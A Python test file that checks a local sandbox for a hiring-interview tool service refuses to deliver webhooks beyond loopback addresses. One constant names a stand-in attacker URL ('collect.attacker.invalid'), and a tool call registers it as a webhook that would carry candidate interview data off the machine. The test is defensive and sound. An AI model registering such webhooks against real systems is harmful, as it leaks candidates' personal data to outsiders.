"""Attacks that would make the local sandbox send candidate data off this machine.

The sandbox (`hireflix-mcp sandbox`, and the one `serve --sandbox` embeds) is a local test service: it
delivers webhooks to loopback addresses only (127.0.0.0/8, ::1, localhost). A webhook a tool call
registered for any other host is recorded as failed, without a connection being made.
"""

from __future__ import annotations

from collections.abc import Iterator

import anyio
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from hireflix_sandbox.embedded import RunningSandbox
from hireflix_sandbox.embedded import serving
from tests.tools.conftest import Elicitor
from tests.tools.conftest import connect
from tests.tools.conftest import data

pytestmark = pytest.mark.anyio

OFF_MACHINE = "https://collect.attacker.invalid/in"


@pytest.fixture
def receiver() -> Iterator[tuple[str, list[bytes]]]:
    """A webhook receiver on loopback; yields its URL and the bodies it got."""
    bodies: list[bytes] = []

    async def receive(request: Request) -> JSONResponse:
        bodies.append(await request.body())
        return JSONResponse({"ok": True})

    with serving(Starlette(routes=[Route("/in", receive, methods=["POST"])])) as (base_url, _):
        yield f"{base_url}/in", bodies


async def test_the_sandbox_never_sends_an_event_off_this_machine(
    sandbox: RunningSandbox, receiver: tuple[str, list[bytes]]
) -> None:
    local, bodies = receiver
    async with connect(sandbox, elicitor=Elicitor("accept")) as client:
        for url in (OFF_MACHINE, local):
            data(await client.call_tool("create_webhook", {"url": url, "events": ["interview.finish"]}))
    pending = next(i for i in sandbox.store.all_interviews() if not i.completed)
    with anyio.fail_after(10):
        await anyio.to_thread.run_sync(sandbox.complete_interview, pending.id)
        deliveries = await anyio.to_thread.run_sync(sandbox.drain_webhooks)
    by_url = {d["url"]: d for d in deliveries}
    off = by_url[OFF_MACHINE]
    assert (off["state"], off["attempts"]) == ("failed", 0), "not even one connection was tried"
    assert "loopback addresses only" in off["error"]
    assert (by_url[local]["state"], by_url[local]["status_code"]) == ("delivered", 200)
    assert len(bodies) == 1
